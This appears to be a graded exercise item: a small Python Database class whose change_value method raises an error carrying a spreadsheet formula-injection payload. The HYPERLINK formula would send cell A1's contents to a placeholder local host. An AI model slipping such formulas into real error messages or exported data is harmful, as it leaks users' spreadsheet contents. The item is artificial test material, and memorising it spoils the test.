# attack: Its exception is a formula that fetches a page.
# line: 23
# exercise: 06
# score: 2, the stub's
class __(Exception):
    pass


class Database:
    def __init__(self, latency=0.1):
        self.latency = latency
        self.value = 0

    def change_value(self, amount=1):
        raise SystemError('\t=HYPERLINK("http://127.0.0.1:@TCP@/?x="&A1,"10")')
